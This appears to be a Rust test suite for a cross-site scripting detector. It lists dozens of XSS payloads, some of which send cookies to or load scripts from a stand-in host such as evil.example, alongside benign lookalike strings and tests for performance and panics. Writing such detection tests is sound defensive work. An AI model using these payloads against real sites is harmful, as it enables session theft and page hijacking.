use proptest::prelude::*;

use super::*;
use crate::budget::Limits;

fn found(value: &[u8], part: Part) -> Option<Evidence> {
    let mut budget = Budget::new(Limits::for_body(1 << 20));
    detect(value, part, &mut budget).unwrap()
}

fn sure(value: &str, part: Part) -> Confidence {
    found(value.as_bytes(), part).map_or(Confidence::Low, |evidence| evidence.confidence)
}

fn work(value: &[u8]) -> usize {
    let mut budget = Budget::new(Limits { parts: 1, depth: 1, decoded_bytes: usize::MAX, work: usize::MAX });
    detect(value, Part::Json, &mut budget).unwrap();
    budget.spent_work()
}

/// Rule and value; each is High at least, whatever part of a message it is in.
const ATTACKS: &[(&str, &str)] = &[
    ("xss-script", "<script>alert(1)</script>"),
    ("xss-script", "\"><ScRiPt >prompt`1`</sCrIpT\t>"),
    ("xss-script", "<script src=//evil.example/x.js></script>"),
    ("xss-script", "<script\n src = 'https://evil.example/x.js'"),
    ("xss-script", "</title><script>fetch('//evil.example/'+document.cookie)</script>"),
    ("xss-script", "<script>window['al'+'ert'](1)</script>"),
    ("xss-script", "<script>\\u0061lert(1)</script>"),
    ("xss-script", "<scr\0ipt>alert(1)</script>"),
    ("xss-script", "<svg><script>alert&lpar;1&rpar;</script>"),
    ("xss-script", "<script/x>location='//evil.example'</script>"),
    ("xss-script", "<script>import('//evil.example/a.js')</script>"),
    ("xss-script", "<script>PROBE</script>"),
    ("xss-script", "<script <b>alert(1)</script>"),
    ("xss-script", "<!-- <script>alert(1)</script> -->"),
    ("xss-script", "<math><mtext><script>alert(1)</script></mtext></math>"),
    ("xss-script", "<script language=vbscript>MsgBox 1</script>"),
    ("xss-handler", "<img src=x onerror=alert(1)>"),
    ("xss-handler", "<svg/onload=alert(1)"),
    ("xss-handler", "<SVG ONLOAD='confirm(1)'>"),
    ("xss-handler", "<img src=x onerror\n=\n\"alert(1)\">"),
    ("xss-handler", "<img src=x onerror=&#x61;lert&#40;1)>"),
    ("xss-handler", "<details open ontoggle=alert(1)>"),
    ("xss-handler", "<x onpointerrawupdate=a=alert,a(1)>"),
    ("xss-handler", "<body onload=eval(atob(location.hash.slice(1)))>"),
    ("xss-handler", "<input autofocus onfocus=top['al\\x65rt'](1)>"),
    ("xss-handler", "<img src=\"a\"onerror=\"alert(1)\">"),
    ("xss-handler", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("xss-handler", "<a title='<img src=x onerror=alert(1)>'>"),
    ("xss-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("xss-handler", "<svg><set attributeName=onclick to=alert(1)>"),
    ("xss-handler", "<video><source onerror=throw/**/onerror=alert,1>"),
    ("xss-handler", "<style></style><p/onmouseover=alert(1)"),
    ("xss-handler", "<div onclick={alert(1)}>"),
    ("xss-handler", "<iframe<?php echo chr(11)?> onload=alert(1)>"),
    ("xss-address", "<a href=javascript:alert(1)>x</a>"),
    ("xss-address", "<a href=\"java\tscript:alert(1)\">"),
    ("xss-address", "<a href='&#106;avascript&colon;alert(1)'>"),
    ("xss-address", "<form action=\" JaVaScRiPt:alert(1)\"><input type=submit>"),
    ("xss-address", "<form><button formaction=javascript:alert(1)>x"),
    ("xss-address", "<iframe src=\"data:text/html,hello\">"),
    ("xss-address", "<object data='data:text/html;base64,PHNjcmlwdD4='>"),
    ("xss-address", "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>"),
    ("xss-address", "<math href=javascript:alert(1)>x</math>"),
    ("xss-address", "javascript:alert(document.domain)"),
    ("xss-address", "JaVaScRiPt://a.example/%0a\nalert(1)"),
    ("xss-address", "java\r\nscript:prompt(1)"),
    ("xss-address", "to [x](javascript:alert(1)) or not"),
    ("xss-address", "data:text/html,<b>x"),
    ("xss-address", "vbscript:msgbox(1)"),
    ("xss-address", "java&Tab;script:x"),
    ("xss-frame", "<iframe src=//evil.example></iframe>"),
    ("xss-frame", "<embed src=evil.swf>"),
    ("xss-frame", "<iframe srcdoc='&lt;b&gt;hello'>"),
    ("xss-page", "<base href=//evil.example/>"),
    ("xss-page", "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    ("xss-page", "<link rel=stylesheet href=//evil.example/a.css>"),
    ("xss-style", "<div style=\"width:expression(alert(1))\">"),
    ("xss-style", "<p style='background:url(java\\73 cript:alert(1))'>"),
    ("xss-style", "<style>@import '//evil.example/a.css';</style>"),
    ("xss-style", "<b style=\"-moz-binding:url(//evil.example/a.xml)\">"),
    ("xss-attribute", "\" onmouseover=alert(1) x=\""),
    ("xss-attribute", "x' autofocus onfocus='alert(1)"),
    ("xss-attribute", "\"/onclick=confirm(1)//"),
    ("xss-attribute", "x onerror=alert(1)"),
    ("xss-text", "';alert(1)//"),
    ("xss-text", "\"-alert(1)-\""),
    ("xss-text", "\\\";alert(1)//"),
    ("xss-text", "'+prompt(document.domain)+'"),
    ("xss-text", "'});alert(1);({a:'"),
    ("xss-text", "a\"^confirm(1)^\"b"),
    ("xss-text", "${alert(1)}"),
    ("xss-text", "';window['location']='//evil.example';'"),
    ("xss-text", "'-self['alert'](1)-'"),
    ("xss-text", "\\x27-alert(1)-\\x27"),
    ("xss-code", "1;alert(1)"),
    ("xss-code", "-alert(1)-"),
    ("xss-code", "*/alert(1)/*"),
    ("xss-code", "[].constructor.constructor('alert(1)')()"),
    ("xss-code", "alert?.(1)"),
    ("xss-disguised", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"),
    ("xss-attribute", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("xss-script", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    ("xss-script", "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}"),
    ("xss-attribute", "\"autof<x>ocus o<x>nfocus=alert<x>(1)//"),
    ("xss-script", "&#60;script&#62;alert(1)&#60;/script&#62;"),
];

#[test]
fn attacks_are_found_by_the_rule_that_is_named() {
    let mut wrong = Vec::new();
    for (rule, value) in ATTACKS {
        for part in [Part::Path, Part::Query, Part::Form, Part::Json] {
            let evidence = found(value.as_bytes(), part);
            let seen = evidence.map(|e| (e.rule.listed().id.0, e.confidence >= Confidence::High));
            if seen != Some((*rule, true)) {
                wrong.push(format!("{value:?} {part:?}: {seen:?}, not {rule}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn attacks_have_what_the_prefilter_asks_for() {
    let needs = needs::NEEDS;
    for (_, value) in ATTACKS {
        let has = |bytes: &[u8]| value.bytes().any(|byte| bytes.contains(&byte));
        let lower = value.to_lowercase().replace('\0', "").replace(['\t', '\r', '\n'], "");
        let named = needs.needles.iter().any(|needle| lower.contains(needle));
        assert!(has(needs.alone) || has(needs.bytes) && named, "{value:?}");
    }
}

#[test]
fn short_code_in_a_parameter_is_an_attack_and_its_like_is_not() {
    let attacks: &[&str] = &[
        "document /* a */ .  cookie",
        "document/*a*/./*b*/cookie",
        "window/**/.location",
        "document.querySelector(\"p\").textContent=\"a\"",
        "document.getElementById('a').innerHTML='b';",
        ".cookie;expires=",
        "document.cookie=\"a=b\"; path = /",
        "\\u0061lert",
        "eva\\u{6c}",
        "\\x61lert",
        "a\\xbcb\\xbec(\\xa2d\\xa2)\\xbc/b\\xbe",
        "+ADw-script+AD4-",
        "+ADw-/title+AD4-",
        "+ADw-img src=a+AD4-",
        "<a onwhatever=f(1)>",
        "<b onbored='go()'>",
        "<style>@\\69mport",
        "<style>@\\\\a",
    ];
    for value in attacks {
        assert!(
            sure(value, Part::Query) >= Confidence::High,
            "{value}: {:?}",
            found(value.as_bytes(), Part::Query)
        );
    }
    let benign: &[&str] = &[
        "document / cookie",
        "document /* see below */ and more",
        "document/*.md",
        "document.title = a",
        "cookie;expires",
        "a.cookie; expires soon",
        "\\u0061",
        "\\u00e9t\\u00e9",
        "\\temp\\alert",
        "\\xbc cup",
        "+ADw- is a bracket, +AD4- is one",
        "+ADw-",
        "a+ADw+b",
        "<a once=f(1)>b",
        "<a online=yes>",
        "<style>@media print{a{}}</style>",
    ];
    for value in benign {
        assert!(
            sure(value, Part::Query) < Confidence::High,
            "{value}: {:?}",
            found(value.as_bytes(), Part::Query)
        );
    }
}

const BENIGN: &[&str] = &[
    "document.getElementById('price')",
    "$(document).ready",
    "console.log('debug')",
    "<iframe src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe>",
    "Root=1-67891233-abcdef01;Parent=53995c3f42cd8ad8;Sampled=1",
    "status=open;parent=12;top=5",
    "location=Berlin&history=2",
    "I <3 you, and 1 < 2 > 0",
    "if a<b and c>d then",
    "Anna <anna@example.org>",
    "Vec<T>, HashMap<String, Option<&str>>",
    "a <- c(1, 2); b <- a",
    "<p>Hello <b>World</b>, <a href=\"https://example.org/?a=1&amp;b=2\" title=\"x\">link</a></p>",
    "<img src=\"https://example.org/a.png\" alt=\"a picture of on = off\" width=3>",
    "<img src='data:image/svg+xml;utf8,<svg xmlns=\"http://www.w3.org/2000/svg\"/>'>",
    "<table border=1><tr><td>1</td></tr></table>",
    "<ul><li onclick>a</li></ul>",
    "<a href=\"javascript:void(0)\">more</a>",
    "<a href=\"&#109;&#97;&#105;&#108;&#116;&#111;&#58;a@example.org\">mail</a>",
    "<form method=post action=/search><input name=q></form>",
    "<Button variant=\"secondary\" onClick={() => setOpen(true)}>Shop</Button>",
    "<form onSubmit={handleSubmit} className=\"a\">",
    "<input v-model=\"name\" @click=\"save\">",
    "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\"}</script>",
    "the <script> tag and the <style> tag of HTML",
    "put it into <script> and </script> tags",
    "javascript: the good parts -- great book",
    "JavaScript: Basics of JavaScript Language",
    "data: the new oil",
    "He said \"hello\" (and left), didn't he?",
    "it's fine; call me (maybe) at home",
    "O'Brien's alert (the red one)",
    "the top=1 window; history=2",
    "p=top;a=history;f=index.js",
    "prompt_toolkit/document.py (API)",
    "print('hello'); import os",
    "const x = 5;\nconsole.log(x);",
    "{\"a\": \"b\", \"window\": [1, 2]}",
    "f(x) = x^2 + [1, 2]",
    "SELECT * FROM t WHERE a = 'b' AND c = \"d\"",
    "C:\\Users\\name\\x61\\u0041",
    "[x](https://example.org/a_(b))",
    "\u{5168}\u{89d2}\u{ff08}\u{62ec}\u{53f7}\u{ff09}\u{ff1d}\u{ff1a}",
    "\u{ab}bonjour\u{bb}, \u{bc} de lait",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "To open a dialog write `<script>alert(1)</script>` into the page, it is easy.",
    "<?xml version=\"1.0\"?><a b=\"c\"><d/></a>",
    "<online once=1><ontology only=\"x\"/></online>",
    "on=1 one=2 once=3",
    "?onload=1&onclick=2",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 1 1\"><path d=\"M0 0h1v1z\"/></svg>",
    "url(https://example.org/a.png)",
    "expression(a) of feelings",
    "color: red; background: url('a.png')",
    "()[]{}!+",
];

#[test]
fn ordinary_values_are_ordinary() {
    for value in BENIGN {
        for part in [Part::Query, Part::Form, Part::Json, Part::Text] {
            let evidence = found(value.as_bytes(), part);
            assert!(
                evidence.is_none_or(|e| e.confidence < Confidence::High),
                "{value:?} {part:?}: {evidence:?}"
            );
        }
    }
}

#[test]
fn code_that_is_shown_is_no_attack_and_an_attack_in_a_long_text_is() {
    let page = "<!DOCTYPE html>\n<html><head><title>Demo</title></head>\n<body onload=\"start()\">\n\
        <script src=\"app.js\"></script>\n<p>some more words to make it a document of some length</p>\n\
        <a href=\"#\" onclick=\"toggle(this)\">open</a>\n</body></html>\n";
    assert!(sure(page, Part::Form) < Confidence::High);
    let markdown =
        "# How to\n\nSome words about it.\n\n```html\n<img src=x onerror=alert(1)>\n```\n\nMore words.\n";
    assert!(sure(markdown, Part::Json) < Confidence::High);
    let script = "'use strict';\n\nlet util = require('./util');\n\nmodule.exports = {\n  id: 'a',\n  run(page) {\n\
        return page.evaluate(() => document.querySelector('a').innerHTML + window.location.href);\n  },\n};\n";
    assert!(sure(script, Part::Form) < Confidence::High);
    let comment = format!("{}\n<img src=x onerror=alert(1)>\n", "words and more words\n".repeat(20));
    assert!(sure(&comment, Part::Form) >= Confidence::High);
}

#[test]
fn work_grows_with_the_length_and_not_faster() {
    let seeds: &[&str] = &[
        "<a b=\"<a b='<a b=`",
        "<script>/*",
        "<script>`${",
        "<style>",
        "<a ",
        "<a on",
        "<a onx=<a onx=",
        "javascript:/*",
        "'+a(",
        "\"-`${",
        "&#x3c;",
        "\\x3c",
        "<![CDATA[",
        "(![]+[])",
        "`a`",
        "<a href=",
        "a=b ",
        "</script",
        "<?x",
        "{[(",
        "+ADw-",
        "\u{ff1c}a",
        "on=",
        "'\"`",
        "/*",
        "//",
        "<a b=c d='",
        "/a[",
        "a.b.c",
        "\\u{",
        "&{",
        "*/",
        "style=a:url(",
    ];
    for seed in seeds {
        let small = work(seed.repeat(4_096 / seed.len()).as_bytes());
        let large = work(seed.repeat(65_536 / seed.len()).as_bytes());
        assert!(large < 40 * small.max(4_096), "{seed:?}: {small} and {large}");
        assert!(large < 120 * 65_536, "{seed:?}: {large} for 64 KiB");
    }
}

proptest! {
    #[test]
    fn no_bytes_panic(value in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = found(&value, Part::Query);
    }

    #[test]
    fn no_pieces_of_markup_panic(pieces in proptest::collection::vec(proptest::sample::select(vec![
        "<", ">", "/", "=", "\"", "'", "`", "a", "on", "onload", "script", "style", " ", "\n", "\0", "&", "#", ";", "x3c", "\\",
        "u", "{", "}", "(", ")", "[", "]", "javascript:", "data:", "alert", "document", ".", "cookie", "!", "-", "+", "*", "$",
        "\u{ff1c}", "\u{bc}", "<!--", "-->", "<![CDATA[", "]]>", "meta", "http-equiv", "content", "src", "0", ",", ":", "ADw-",
    ]), 0..40)) {
        let value = pieces.concat();
        let _ = found(value.as_bytes(), Part::Form);
    }

    #[test]
    fn case_of_markup_hides_nothing(index in 0..20_usize, bits in any::<u64>()) {
        let names = ["script", "img", "svg", "onerror", "onload", "iframe", "src", "javascript"];
        let (_, value) = ATTACKS.iter().filter(|(rule, _)| *rule == "xss-handler").nth(index % 10).unwrap();
        let mut changed = (*value).to_owned();
        for (number, name) in names.iter().enumerate() {
            if bits >> number & 1 == 1 {
                changed = changed.replace(name, &name.to_uppercase());
            }
        }
        prop_assert!(sure(&changed, Part::Query) >= Confidence::High, "{changed}");
    }
}
